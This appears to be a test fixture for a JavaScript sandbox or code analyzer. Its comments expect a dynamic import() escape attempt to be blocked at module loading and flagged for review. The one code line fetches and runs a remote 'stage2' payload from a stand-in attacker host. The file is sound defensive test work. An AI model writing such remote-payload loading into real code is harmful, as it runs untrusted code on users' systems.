// sample: Escape: dynamic import()
// run-options: --force
// expect-outcome: error
// expect-blocked: module-loading@10
// expect-verdict: review
// expect-findings: dynamic-import
//
// There is no module loader: the promise rejects and the attempt is recorded. Loading a
// remote payload is module-loading; importing "fs" would be recorded as filesystem.
import("https://evil.example/stage2.js").then((m) => m.default());
